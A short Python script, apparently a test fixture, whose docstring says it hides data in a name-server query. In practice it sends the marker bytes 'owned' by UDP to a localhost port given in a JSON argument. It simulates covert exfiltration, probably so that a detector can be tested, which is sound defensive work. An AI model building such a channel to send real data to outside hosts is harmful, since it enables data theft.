"""Hides data in a question to a name server."""

import json
import sys

WORLD = json.loads(sys.argv[1])
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.sendto(b"owned", ("127.0.0.1", WORLD["udp_port"]))
